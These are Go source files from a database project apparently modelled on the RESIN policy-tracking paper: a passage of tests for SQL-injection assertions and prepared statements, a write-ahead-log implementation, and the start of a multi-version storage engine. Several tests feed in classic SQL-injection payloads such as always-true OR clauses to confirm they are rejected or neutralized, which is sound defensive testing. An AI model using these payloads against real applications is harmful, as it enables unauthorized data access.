	// the digit string merges back onto the integer cell.
	db.MustExec("CREATE TABLE scores (id INT, score INT)")
	score := core.NewInt(42).WithPolicy(&sanitize.UntrustedData{Source: "form:score"})
	if _, err := db.Query(core.NewString("INSERT INTO scores (id, score) VALUES (?, ?)"), 1, score); err != nil {
		t.Fatal(err)
	}
	sres, err := db.Query(core.NewString("SELECT score FROM scores WHERE id = ?"), 1)
	if err != nil {
		t.Fatal(err)
	}
	back := sres.Get(0, "score").Int
	if back.Value() != 42 || !back.Policies().Any(sanitize.IsUntrusted) {
		t.Errorf("tainted int round trip: value %d tainted %v", back.Value(), back.IsTainted())
	}
}

// TestBoundArgsSkipInjectionAssertions: both §5.3 strategies inspect
// query text, so a bound tainted value passes by construction — while
// the same payload spliced into text is still rejected.
func TestBoundArgsSkipInjectionAssertions(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE users (name TEXT)")
	db.Filter().RequireSanitizedMarkers(true)
	db.Filter().RejectTaintedStructure(true)

	payload := sanitize.Taint(core.NewString("x' OR 'a' = 'a"), "form:name")

	spliced := core.Concat(core.NewString("SELECT name FROM users WHERE name = '"), payload, core.NewString("'"))
	if _, err := db.Query(spliced); err == nil {
		t.Fatal("spliced payload was not rejected")
	}

	st := db.MustPrepare("SELECT name FROM users WHERE name = ?")
	res, err := st.Query(payload)
	if err != nil {
		t.Fatalf("bound payload rejected: %v", err)
	}
	if res.Len() != 0 {
		t.Fatalf("payload matched %d rows; it must be an inert value", res.Len())
	}
	// Same through the variadic text path.
	if _, err := db.Query(core.NewString("SELECT name FROM users WHERE name = ?"), payload); err != nil {
		t.Fatalf("variadic bound payload rejected: %v", err)
	}
}

// TestPreparedTaintedTextStillChecked: binding exempts values, not the
// statement text — prepared text that itself carries untrusted
// structure still fails the assertions at execution time.
func TestPreparedTaintedTextStillChecked(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	evil := core.Concat(
		core.NewString("SELECT a FROM t WHERE a = '' OR "),
		sanitize.Taint(core.NewString("'x' = 'x'"), "form:q"),
	)
	st, err := db.Prepare(evil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Query(); err != nil {
		t.Fatalf("assertions off: %v", err)
	}
	db.Filter().RejectTaintedStructure(true)
	if _, err := st.Query(); err == nil {
		t.Error("tainted prepared text passed the strategy-2 assertion")
	}
	db.Filter().RejectTaintedStructure(false)
	db.Filter().RequireSanitizedMarkers(true)
	if _, err := st.Query(); err == nil {
		t.Error("tainted prepared text passed the strategy-1 assertion")
	}
}

// TestUntrustedQuestionMarkIsStructure: an attacker-supplied `?` must
// not mint a binding slot. Strategy 2 rejects it as tainted structure;
// the auto-sanitizing tokenizer swallows it into a value.
func TestUntrustedQuestionMarkIsStructure(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('x')")

	q := core.Concat(
		core.NewString("SELECT a FROM t WHERE a = "),
		sanitize.Taint(core.NewString("?"), "form:a"),
	)

	db.Filter().RejectTaintedStructure(true)
	if _, err := db.Query(q, "x"); err == nil {
		t.Error("untrusted ? passed the tainted-structure assertion")
	}
	db.Filter().RejectTaintedStructure(false)

	db.Filter().AutoSanitizeUntrusted(true)
	// Under auto-sanitize the untrusted ? lexes as a value, so there is
	// no placeholder to bind: the zero-argument call succeeds and the
	// literal "?" matches nothing.
	res, err := db.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 0 {
		t.Errorf("untrusted ? matched %d rows under auto-sanitize", res.Len())
	}
}

// TestPreparedAutoSanitizeFallback: a prepared statement whose text
// carries untrusted bytes re-lexes under the auto-sanitizing tokenizer
// when that mode is on, neutralizing the untrusted bytes exactly as the
// text path would.
func TestPreparedAutoSanitizeFallback(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('z')")

	// The attacker controls the whole comparison tail: spliced as text
	// it is an always-true disjunction; as one auto-sanitized value it
	// is an inert string that matches nothing.
	evil := core.Concat(
		core.NewString("SELECT a FROM t WHERE a = "),
		sanitize.Taint(core.NewString("'x' OR 'y' = 'y'"), "form:q"),
	)
	st, err := db.Prepare(evil)
	if err != nil {
		t.Fatal(err)
	}
	// Without auto-sanitize the tainted text executes as written and
	// the always-true OR matches the row.
	res, err := st.Query()
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("baseline: %d rows", res.Len())
	}
	db.Filter().AutoSanitizeUntrusted(true)
	res, err = st.Query()
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 0 {
		t.Errorf("auto-sanitize left the untrusted structure live: %d rows", res.Len())
	}
}

// TestPrepareSingleTokenize: Prepare tokenizes the text exactly once
// (the strategy-2 verdict reuses the same token stream).
func TestPrepareSingleTokenize(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	lex0 := TokenizeCount()
	if _, err := db.PrepareRaw("SELECT a FROM t WHERE a = ?"); err != nil {
		t.Fatal(err)
	}
	if n := TokenizeCount() - lex0; n != 1 {
		t.Errorf("Prepare tokenized %d times, want 1", n)
	}
}

// TestPrepareTaintedLexErrorDeferred: untrusted bytes that break the
// standard lexer (an unbalanced quote) must not make Prepare fail
// outright — under auto-sanitize the text path accepts them as inert
// values, so the prepared form must behave identically per execution.
func TestPrepareTaintedLexErrorDeferred(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('x')")

	evil := core.Concat(
		core.NewString("SELECT a FROM t WHERE a = "),
		sanitize.Taint(core.NewString("'x"), "form:a"), // unterminated quote
	)
	// Text-path baselines: standard mode errors, auto mode neutralizes.
	if _, err := db.Query(evil); err == nil {
		t.Fatal("text path accepted an unterminated literal without auto-sanitize")
	}

	st, err := db.Prepare(evil)
	if err != nil {
		t.Fatalf("Prepare must defer the lex verdict to execution, got %v", err)
	}
	if _, err := st.Query(); err == nil {
		t.Error("prepared execution without auto-sanitize accepted the unterminated literal")
	}
	db.Filter().AutoSanitizeUntrusted(true)
	res, err := st.Query()
	if err != nil {
		t.Fatalf("prepared execution under auto-sanitize: %v", err)
	}
	if res.Len() != 0 {
		t.Errorf("neutralized payload matched %d rows", res.Len())
	}
	// Fully-trusted broken text still fails at Prepare, eagerly.
	if _, err := db.PrepareRaw("SELECT a FROM t WHERE a = 'x"); err == nil {
		t.Error("trusted unterminated literal prepared successfully")
	}
}

// TestPreparedOnTx: statements prepared inside a transaction execute
// against the speculative state and die with it.
func TestPreparedOnTx(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE acct (owner TEXT, balance INT)")
	db.MustExec("INSERT INTO acct (owner, balance) VALUES ('alice', 100)")

	tx := db.Begin()
	upd, err := tx.PrepareRaw("UPDATE acct SET balance = ? WHERE owner = ?")
	if err != nil {
		t.Fatal(err)
	}
	if n, err := upd.Exec(70, "alice"); err != nil || n != 1 {
		t.Fatalf("tx update = %d, %v", n, err)
	}
	// Outside the tx the write is invisible.
	res, err := db.Query(core.NewString("SELECT balance FROM acct WHERE owner = ?"), "alice")
	if err != nil {
		t.Fatal(err)
	}
	if res.Get(0, "balance").Int.Value() != 100 {
		t.Error("speculative write leaked")
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	res, err = db.Query(core.NewString("SELECT balance FROM acct WHERE owner = ?"), "alice")
	if err != nil {
		t.Fatal(err)
	}
	if res.Get(0, "balance").Int.Value() != 70 {
		t.Error("committed write missing")
	}
	if _, err := upd.Exec(0, "alice"); err != ErrTxDone {
		t.Errorf("post-commit exec = %v, want ErrTxDone", err)
	}
}

// TestTxViewMustExecParity: the satellite parity methods exist and
// panic on bad statements like DB.MustExec does.
func TestTxViewMustExecParity(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	tx := db.Begin()
	tx.MustExec("INSERT INTO t (a) VALUES ('in-tx')")
	if n, err := tx.Exec(core.NewString("UPDATE t SET a = ? WHERE a = ?"), "renamed", "in-tx"); err != nil || n != 1 {
		t.Fatalf("Tx.Exec = %d, %v", n, err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	if n, err := db.Exec(core.NewString("DELETE FROM t WHERE a = ?"), "renamed"); err != nil || n != 1 {
		t.Fatalf("DB.Exec = %d, %v", n, err)
	}

	view := &View{engine: db.Engine()}
	view.MustExec("SELECT a FROM t")
	func() {
		defer func() {
			if recover() == nil {
				t.Error("View.MustExec did not panic on a bad statement")
			}
		}()
		view.MustExec("SELECT nope FROM t")
	}()
}

// TestPreparedSchemaChanges: prepared statements survive DDL around
// them — a dropped table fails cleanly, a recreated one works again
// (the plan's schema-derived state recompiles via the generation).
func TestPreparedSchemaChanges(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	st := db.MustPrepare("SELECT a FROM t WHERE a = ?")
	if _, err := st.Query("x"); err != nil {
		t.Fatal(err)
	}
	db.MustExec("DROP TABLE t")
	if _, err := st.Query("x"); err == nil {
		t.Error("query against a dropped table succeeded")
	}
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('x')")
	res, err := st.Query("x")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Errorf("recreated table: %d rows", res.Len())
	}
}

// TestLimitPlaceholder: a LIMIT count is bindable like any other slot;
// inline counts still fold into the plan (plan_test pins that part).
func TestLimitPlaceholder(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	for _, v := range []string{"a", "b", "c", "d"} {
		db.MustExec("INSERT INTO t (a) VALUES ('" + v + "')")
	}
	st := db.MustPrepare("SELECT a FROM t ORDER BY a LIMIT ?")
	for _, want := range []int{0, 2, 4, 10} {
		res, err := st.Query(want)
		if err != nil {
			t.Fatalf("LIMIT %d: %v", want, err)
		}
		if n := min(want, 4); res.Len() != n {
			t.Errorf("LIMIT %d: got %d rows, want %d", want, res.Len(), n)
		}
	}
	if _, err := st.Query(-1); err == nil {
		t.Error("negative LIMIT bound successfully")
	}
	if _, err := st.Query("x"); err == nil {
		t.Error("string LIMIT bound successfully")
	}
	// Direct text execution binds the same way.
	res, err := db.QueryRaw("SELECT a FROM t ORDER BY a LIMIT ?", 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 3 {
		t.Errorf("text-path LIMIT ?: got %d rows, want 3", res.Len())
	}
}

// TestBindUnsupportedType: binding a value the dialect cannot represent
// fails with a descriptive error naming the argument.
func TestBindUnsupportedType(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	st := db.MustPrepare("INSERT INTO t (a) VALUES (?)")
	if _, err := st.Exec(3.14); err == nil || !strings.Contains(err.Error(), "cannot bind float64") {
		t.Errorf("float bind: %v", err)
	}
	if _, err := st.Exec(nil); err != nil { // nil binds as NULL
		t.Errorf("nil bind: %v", err)
	}
}

// TestInjectionErrorClampsBounds is the satellite regression test: a
// hostile Start/End pair must render a diagnostic, never panic.
func TestInjectionErrorClampsBounds(t *testing.T) {
	cases := []InjectionError{
		{Strategy: "s", Query: "SELECT 1", Start: -3, End: 4},
		{Strategy: "s", Query: "SELECT 1", Start: -10, End: -5},
		{Strategy: "s", Query: "SELECT 1", Start: 6, End: 3},
		{Strategy: "s", Query: "SELECT 1", Start: 2, End: 9999},
		{Strategy: "s", Query: "", Start: -1, End: 1},
	}
	for i := range cases {
		msg := cases[i].Error()
		if !strings.Contains(msg, "SQL injection assertion") {
			t.Errorf("case %d: malformed message %q", i, msg)
		}
	}
}
