package sqldb

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"os"
)

// The write-ahead log: durability for tables and their shadow policy
// columns (ROADMAP: "so policies survive process restarts the way the
// paper's MySQL-backed prototype did"). The engine stores plain values
// and the filter persists policies in shadow columns (docs/SQL.md §3),
// so one log of the *rewritten* statements the engine executes captures
// both: replaying the statement sequence rebuilds tables, rows, indexes,
// and the serialized policy annotations, and the existing batched decode
// (core.CompileAnnotation) re-interns the policy sets on first read.
//
// File format v2 (normative spec in docs/SQL.md §8, pinned byte-for-byte
// by testdata/wal_v2.golden; v1 logs are still read — see below):
//
//	header:  8-byte magic "RESINWAL" + 1 version byte (0x02)
//	record:  uint32 LE payload length | uint32 LE CRC-32 (IEEE) of the
//	         payload | payload bytes
//	payload: 1 type byte + data
//	types:   'S' statement (data = a DDL statement's dialect text, the
//	             form Engine executed — post filter rewrite)
//	         'R' row ops (data = the row-level redo of one DML
//	             statement: uvarint op count, then per op a kind byte
//	             'i'/'u'/'d', uvarint table-key length + bytes, uvarint
//	             stable row id, and for 'i'/'u' a uvarint column count
//	             followed by one value each: 'N' for NULL, 'I' + zigzag
//	             varint for integers, 'T' + uvarint length + bytes for
//	             text — so shadow policy columns persist byte-exactly
//	             with the row version that carries them)
//	         'B' transaction begin marker (no data)
//	         'C' transaction commit marker (no data)
//
// v2 logs rows by stable id instead of re-logging DML text: replay
// rebuilds the exact entries (ids, scan order, index buckets) the live
// engine had, which is what lets transactions merge per-row instead of
// swapping whole engines. Version byte 0x01 opens read-only-compatibly:
// recovery replays its statement records and immediately compacts the
// log, rewriting it as v2 (recover.go).
//
// Records outside B..C markers apply on replay as they are read; a
// B..C group applies atomically at its commit marker, and a group whose
// commit marker never made it to disk is dropped entirely — recovery
// drops uncommitted suffixes. Torn tails (a partial record, a checksum
// mismatch, a zero length from a preallocated tail) truncate the log at
// the last applied boundary; damage that a crash cannot explain — bad
// magic, an unknown record type, an unparseable statement or undecodable
// row op *protected by a valid checksum* — is reported as a
// *WALCorruptionError instead of being silently dropped.
const (
	walMagic         = "RESINWAL"
	walVersion       = 0x02
	walVersionLegacy = 0x01
	walHeaderSize    = len(walMagic) + 1
	walRecHeaderSize = 8
	// walMaxRecord bounds one record's payload, enforced symmetrically:
	// appends refuse a larger payload (ErrWALRecordTooLarge — the
	// statement is rejected before it mutates anything), and recovery
	// treats a larger length field as a torn tail, not an allocation
	// request. Without the append-side check an oversized statement
	// would be acked as durable and then silently truncated — along
	// with everything after it — on the next open.
	walMaxRecord = 64 << 20
)

// WALMaxRecord is the exported record-payload bound, so the wire
// protocol can pin its frame limit to the same value: a result or log
// chunk the server frames is never larger than what the log itself
// would have accepted, and neither side can ack bytes the other must
// then truncate.
const WALMaxRecord = walMaxRecord

// WAL record type bytes.
const (
	walRecStmt   = 'S'
	walRecOps    = 'R'
	walRecBegin  = 'B'
	walRecCommit = 'C'
)

// ErrDBClosed is returned for mutations against a closed persistent
// database (DB.Close syncs and closes the log; acknowledging a write
// afterwards would un-promise durability).
var ErrDBClosed = errors.New("sqldb: database is closed")

// ErrWALCorrupt is the sentinel matched by errors.Is for every
// *WALCorruptionError.
var ErrWALCorrupt = errors.New("sqldb: corrupt WAL")

// ErrWALRecordTooLarge rejects a single statement whose log record
// would exceed walMaxRecord; the statement is not applied.
var ErrWALRecordTooLarge = errors.New("sqldb: statement exceeds the WAL record size limit")

// ErrWALBusy reports that another process (or another DB handle in this
// one) holds the write lock on the log file.
var ErrWALBusy = errors.New("sqldb: WAL is locked by another database handle")

// WALCorruptionError reports log damage that the torn-tail rule cannot
// explain away: the bytes up to Offset were intact (checksums passed)
// but their content is not a valid record sequence.
type WALCorruptionError struct {
	Path   string
	Offset int64
	Reason string
	Err    error
}

func (e *WALCorruptionError) Error() string {
	msg := fmt.Sprintf("sqldb: corrupt WAL %s at offset %d: %s", e.Path, e.Offset, e.Reason)
	if e.Err != nil {
		msg += ": " + e.Err.Error()
	}
	return msg
}

func (e *WALCorruptionError) Unwrap() error { return e.Err }

// Is matches the ErrWALCorrupt sentinel.
func (e *WALCorruptionError) Is(target error) bool { return target == ErrWALCorrupt }

// wal is the open write-ahead log of one persistent engine. All writer
// state is guarded by the owning Engine's write lock (appends happen
// inside ExecuteRaw's critical section — a mutation is durable before
// its ack leaves the engine) except during Tx.Commit, which detaches the
// wal from the engine before appending the commit group (see tx.go).
type wal struct {
	path string
	f    *os.File
	size int64

	// groupEvery is the group-commit knob: fsync once per groupEvery
	// append calls instead of per call. <= 1 means sync every append
	// (the default: full durability-before-ack). pending counts appends
	// since the last fsync.
	groupEvery int
	pending    int

	closed bool
	broken error // sticky first write/sync failure; the wal is fail-stop

	// epoch counts whole-log rewrites (compaction). A shipped byte offset
	// is only meaningful within one epoch: after a rewrite the same
	// offsets name different bytes, so replication streams carry the
	// epoch and a follower that observes a change re-handshakes (ship.go).
	epoch uint64

	// notify, when non-nil (armed by DB.WALNotify), receives a
	// non-blocking token after every size-changing append so a shipping
	// loop can wait for new bytes without polling.
	notify chan struct{}
}

// signal wakes a WALNotify waiter, if any; never blocks.
func (w *wal) signal() {
	if w.notify == nil {
		return
	}
	select {
	case w.notify <- struct{}{}:
	default:
	}
}

// usable reports whether the log can accept an append.
func (w *wal) usable() error {
	if w.closed {
		return ErrDBClosed
	}
	if w.broken != nil {
		return fmt.Errorf("sqldb: WAL failed earlier and is write-disabled: %w", w.broken)
	}
	return nil
}

// appendRecord frames one payload into buf.
func appendRecord(buf []byte, payload []byte) []byte {
	var hdr [walRecHeaderSize]byte
	binary.LittleEndian.PutUint32(hdr[0:4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(hdr[4:8], crc32.ChecksumIEEE(payload))
	buf = append(buf, hdr[:]...)
	return append(buf, payload...)
}

// stmtPayload builds the payload of a statement record.
func stmtPayload(text string) []byte {
	p := make([]byte, 0, 1+len(text))
	p = append(p, walRecStmt)
	return append(p, text...)
}

// appendValue encodes one stored value: NULL, zigzag-varint integer, or
// length-prefixed text.
func appendValue(p []byte, v value) []byte {
	switch {
	case v.null:
		return append(p, 'N')
	case v.isInt:
		p = append(p, 'I')
		return binary.AppendVarint(p, v.i)
	default:
		p = append(p, 'T')
		p = binary.AppendUvarint(p, uint64(len(v.s)))
		return append(p, v.s...)
	}
}

// opsPayload builds the payload of a row-ops record — the row-level
// redo of one DML statement.
func opsPayload(ops []rowOp) []byte {
	p := []byte{walRecOps}
	p = binary.AppendUvarint(p, uint64(len(ops)))
	for i := range ops {
		op := &ops[i]
		p = append(p, op.kind)
		p = binary.AppendUvarint(p, uint64(len(op.table)))
		p = append(p, op.table...)
		p = binary.AppendUvarint(p, op.id)
		if op.kind == opInsert || op.kind == opUpdate {
			p = binary.AppendUvarint(p, uint64(len(op.vals)))
			for _, v := range op.vals {
				p = appendValue(p, v)
			}
		}
	}
	return p
}

// decodeOpsPayload parses a row-ops record body (the bytes after the
// 'R' type byte). Any structural damage is an error: the payload was
// checksum-protected, so it cannot be a torn tail.
func decodeOpsPayload(data []byte) ([]rowOp, error) {
	off := 0
	uv := func() (uint64, error) {
		v, n := binary.Uvarint(data[off:])
		if n <= 0 {
			return 0, errors.New("truncated varint")
		}
		off += n
		return v, nil
	}
	nops, err := uv()
	if err != nil {
		return nil, err
	}
	if nops > uint64(len(data)) { // each op is ≥ 1 byte; cheap sanity bound
		return nil, fmt.Errorf("op count %d exceeds payload", nops)
	}
	ops := make([]rowOp, 0, nops)
	for k := uint64(0); k < nops; k++ {
		if off >= len(data) {
			return nil, errors.New("truncated op")
		}
		kind := data[off]
		off++
		if kind != opInsert && kind != opUpdate && kind != opDelete {
			return nil, fmt.Errorf("unknown row op kind 0x%02x", kind)
		}
		tl, err := uv()
		if err != nil {
			return nil, err
		}
		if tl > uint64(len(data)-off) {
			return nil, errors.New("truncated table name")
		}
		tbl := string(data[off : off+int(tl)])
		off += int(tl)
		id, err := uv()
		if err != nil {
			return nil, err
		}
		op := rowOp{kind: kind, table: tbl, id: id}
		if kind == opInsert || kind == opUpdate {
			ncols, err := uv()
			if err != nil {
				return nil, err
			}
			if ncols > uint64(len(data)-off) {
				return nil, fmt.Errorf("column count %d exceeds payload", ncols)
			}
			op.vals = make([]value, 0, ncols)
			for c := uint64(0); c < ncols; c++ {
				if off >= len(data) {
					return nil, errors.New("truncated value")
				}
				tag := data[off]
				off++
				switch tag {
				case 'N':
					op.vals = append(op.vals, nullValue())
				case 'I':
					n, w := binary.Varint(data[off:])
					if w <= 0 {
						return nil, errors.New("truncated int value")
					}
					off += w
					op.vals = append(op.vals, intValue(n))
				case 'T':
					sl, err := uv()
					if err != nil {
						return nil, err
					}
					if sl > uint64(len(data)-off) {
						return nil, errors.New("truncated text value")
					}
					op.vals = append(op.vals, textValue(string(data[off:off+int(sl)])))
					off += int(sl)
				default:
					return nil, fmt.Errorf("unknown value tag 0x%02x", tag)
				}
			}
		}
		ops = append(ops, op)
	}
	if off != len(data) {
		return nil, fmt.Errorf("%d trailing bytes after ops", len(data)-off)
	}
	return ops, nil
}

// write appends pre-framed bytes and applies the sync policy. On any
// write or sync failure the wal goes fail-stop: the error is sticky and
// every later append refuses, so a partially written tail can never be
// followed by more records (recovery would interleave garbage).
func (w *wal) write(frame []byte) error {
	if err := w.usable(); err != nil {
		return err
	}
	if _, err := w.f.Write(frame); err != nil {
		w.broken = err
		return fmt.Errorf("sqldb: WAL append: %w", err)
	}
	w.size += int64(len(frame))
	w.pending++
	w.signal()
	if w.groupEvery <= 1 || w.pending >= w.groupEvery {
		return w.syncNow()
	}
	return nil
}

// appendRaw appends pre-framed record bytes verbatim and fsyncs — the
// follower mirror path: a replica's local log is a byte-prefix copy of
// the primary's, so shipped chunks land exactly as received (ship.go).
func (w *wal) appendRaw(data []byte) error {
	if err := w.usable(); err != nil {
		return err
	}
	if _, err := w.f.Write(data); err != nil {
		w.broken = err
		return fmt.Errorf("sqldb: WAL append: %w", err)
	}
	w.size += int64(len(data))
	w.pending++
	w.signal()
	return w.syncNow()
}

// appendStmt logs one DDL statement.
func (w *wal) appendStmt(text string) error {
	if 1+len(text) > walMaxRecord {
		return fmt.Errorf("%w (%d bytes)", ErrWALRecordTooLarge, len(text))
	}
	return w.write(appendRecord(nil, stmtPayload(text)))
}

// appendOps logs the row ops of one DML statement as a single 'R'
// record.
func (w *wal) appendOps(ops []rowOp) error {
	p := opsPayload(ops)
	if len(p) > walMaxRecord {
		return fmt.Errorf("%w (%d bytes)", ErrWALRecordTooLarge, len(p))
	}
	return w.write(appendRecord(nil, p))
}

// appendTxGroup logs a committed transaction's redo payloads between
// begin and commit markers, as one contiguous write and one sync — the
// markers are what lets recovery drop an uncommitted suffix, and the
// single sync is the transactional flavor of group commit.
func (w *wal) appendTxGroup(payloads [][]byte) error {
	buf := appendRecord(nil, []byte{walRecBegin})
	for _, p := range payloads {
		if len(p) > walMaxRecord {
			return fmt.Errorf("%w (%d bytes)", ErrWALRecordTooLarge, len(p))
		}
		buf = appendRecord(buf, p)
	}
	buf = appendRecord(buf, []byte{walRecCommit})
	if err := w.usable(); err != nil {
		return err
	}
	if _, err := w.f.Write(buf); err != nil {
		w.broken = err
		return fmt.Errorf("sqldb: WAL commit group: %w", err)
	}
	w.size += int64(len(buf))
	w.pending++
	w.signal()
	return w.syncNow()
}

// syncNow flushes pending appends to stable storage.
func (w *wal) syncNow() error {
	if w.pending == 0 {
		return nil
	}
	if err := w.f.Sync(); err != nil {
		w.broken = err
		return fmt.Errorf("sqldb: WAL sync: %w", err)
	}
	w.pending = 0
	return nil
}

// close syncs pending appends and closes the file. The wal stays
// attached with closed set, so later mutations fail with ErrDBClosed
// instead of silently losing durability.
func (w *wal) close() error {
	if w.closed {
		return nil
	}
	serr := w.syncNow()
	cerr := w.f.Close()
	w.closed = true
	if serr != nil {
		return serr
	}
	return cerr
}

// writeWALFile writes a fresh v2 log containing the given record
// payloads to path (the compaction writer and the new-file path share
// it): header, one record per payload, fsynced before return.
func writeWALFile(path string, payloads [][]byte) (*os.File, int64, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return nil, 0, err
	}
	// The advisory lock follows the inode through the compaction
	// rename, keeping the single-writer rule intact across the handle
	// swap (the old fd's lock dies with it).
	if err := lockWALFile(f); err != nil {
		f.Close()
		os.Remove(path)
		return nil, 0, fmt.Errorf("%w: %s", ErrWALBusy, path)
	}
	buf := make([]byte, 0, walHeaderSize)
	buf = append(buf, walMagic...)
	buf = append(buf, walVersion)
	for _, p := range payloads {
		if len(p) > walMaxRecord {
			f.Close()
			os.Remove(path)
			return nil, 0, fmt.Errorf("%w (%d bytes)", ErrWALRecordTooLarge, len(p))
		}
		buf = appendRecord(buf, p)
	}
	if _, err := f.Write(buf); err != nil {
		f.Close()
		os.Remove(path)
		return nil, 0, err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		os.Remove(path)
		return nil, 0, err
	}
	return f, int64(len(buf)), nil
}

// walNextRecord reads one record's framing (length + checksum) at off.
// ok is false at a torn tail: a partial record header, a zero or
// oversized length, a truncated payload, or a checksum mismatch. It is
// the single framing reader — recovery and the boundary scanner both
// use it, so the torn-tail rule cannot drift between them.
func walNextRecord(data []byte, off int) (payload []byte, end int, ok bool) {
	if len(data)-off < walRecHeaderSize {
		return nil, 0, false
	}
	ln := int(binary.LittleEndian.Uint32(data[off : off+4]))
	crc := binary.LittleEndian.Uint32(data[off+4 : off+8])
	if ln == 0 || ln > walMaxRecord || off+walRecHeaderSize+ln > len(data) {
		return nil, 0, false
	}
	payload = data[off+walRecHeaderSize : off+walRecHeaderSize+ln]
	if crc32.ChecksumIEEE(payload) != crc {
		return nil, 0, false
	}
	return payload, off + walRecHeaderSize + ln, true
}

// walRecordEnds scans framing only (no payload interpretation) and
// returns the end offset of every intact record — the truncation points
// the crash-recovery property test replays. A valid header contributes
// walHeaderSize as the first boundary.
func walRecordEnds(data []byte) []int64 {
	if len(data) < walHeaderSize || string(data[:len(walMagic)]) != walMagic {
		return nil
	}
	ends := []int64{int64(walHeaderSize)}
	off := walHeaderSize
	for off < len(data) {
		_, end, ok := walNextRecord(data, off)
		if !ok {
			break
		}
		off = end
		ends = append(ends, int64(off))
	}
	return ends
}
