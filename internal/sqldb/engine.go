package sqldb

import (
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"resin/internal/core"
)

// The engine executes parsed statements over in-memory tables holding
// plain (untracked) values — like the MySQL server behind the paper's PHP
// prototype, the database itself knows nothing about policies. Policy
// persistence happens one layer up, in the RESIN SQL filter, which
// rewrites queries to read and write shadow policy columns (Figure 4).
//
// Storage is multi-versioned (docs/ARCHITECTURE.md "Concurrency"):
// every row has a stable id and a chain of immutable versions stamped
// with the commit version that created them. SELECTs capture the commit
// frontier under a brief read lock, copy out their candidate set, and
// evaluate rows with no lock held — a concurrent writer can commit new
// versions mid-evaluation without the reader ever seeing them. DELETE
// appends a tombstone version instead of compacting row storage, so
// stable ids (and the indexes keyed by them) survive; superseded index
// pairs and dead versions are reclaimed by vacuum once no registered
// snapshot can reach them.

// Engine errors. Wrapped ErrNoColumn errors always name the table as
// well as the column ("table.column"), so a failing query over a
// multi-table schema pins down which schema it missed.
var (
	ErrNoTable      = errors.New("sqldb: no such table")
	ErrTableExists  = errors.New("sqldb: table already exists")
	ErrNoColumn     = errors.New("sqldb: no such column")
	ErrTypeMismatch = errors.New("sqldb: type mismatch")
	ErrIndexExists  = errors.New("sqldb: index already exists")
	ErrNoIndex      = errors.New("sqldb: no such index")
)

// value is one stored cell: NULL, an integer, or text.
type value struct {
	null  bool
	isInt bool
	i     int64
	s     string
}

func nullValue() value         { return value{null: true} }
func intValue(v int64) value   { return value{isInt: true, i: v} }
func textValue(s string) value { return value{s: s} }
func (v value) String() string {
	switch {
	case v.null:
		return "NULL"
	case v.isInt:
		return strconv.FormatInt(v.i, 10)
	default:
		return v.s
	}
}

// rowVersion is one immutable version of a row. born is the commit
// version at which it became visible; a tombstone marks the row deleted
// from that version on. vals and born never change after the version is
// linked into a chain; prev is rewritten only by vacuum, and only on
// versions no registered snapshot can traverse past (see table.vacuum).
type rowVersion struct {
	born uint64
	tomb bool
	vals []value
	prev *rowVersion
}

// rowEntry is one row slot: a stable id plus the version chain, newest
// first. head is atomic because readers resolve visibility with no lock
// held while writers (under the engine write lock) prepend versions.
type rowEntry struct {
	id   uint64
	head atomic.Pointer[rowVersion]
}

// visible returns the version of the row a snapshot sees, or nil when
// the row did not exist (or was deleted) at snap. Chains are ordered by
// descending born, so the first version at or below snap decides.
func (en *rowEntry) visible(snap uint64) *rowVersion {
	for v := en.head.Load(); v != nil; v = v.prev {
		if v.born <= snap {
			if v.tomb {
				return nil
			}
			return v
		}
	}
	return nil
}

// staleRef is a deferred index removal: the pair (indexKey(v), id) in
// column ci's index may no longer be reachable by any snapshot. Vacuum
// drains these once the version chain proves the key gone.
type staleRef struct {
	ci int
	v  value
	id uint64
}

// table is one in-memory table. cols and colIdx are immutable after
// creation; entries (ascending id, append-only between vacuums), byID,
// indexes and stale are guarded by the engine's write lock. Readers
// copy the entries slice header (and candidate id lists) under the read
// lock and then work lock-free: appends only ever touch capacity their
// header does not cover, and vacuum swaps in a fresh slice rather than
// compacting in place.
type table struct {
	name    string
	cols    []ColumnDef
	colIdx  map[string]int // lower-cased column name → position
	entries []*rowEntry
	byID    map[uint64]*rowEntry
	indexes map[int]*orderedIndex // column position → ordered index (index.go)
	stale   []staleRef
}

func newTable(name string, cols []ColumnDef) *table {
	t := &table{
		name:   name,
		cols:   cols,
		colIdx: make(map[string]int, len(cols)),
		byID:   make(map[uint64]*rowEntry),
	}
	for i, c := range t.cols {
		t.colIdx[strings.ToLower(c.Name)] = i
	}
	return t
}

// colIndex resolves a column name case-insensitively. The memoized map
// covers every ASCII spelling (column names are ASCII identifiers); the
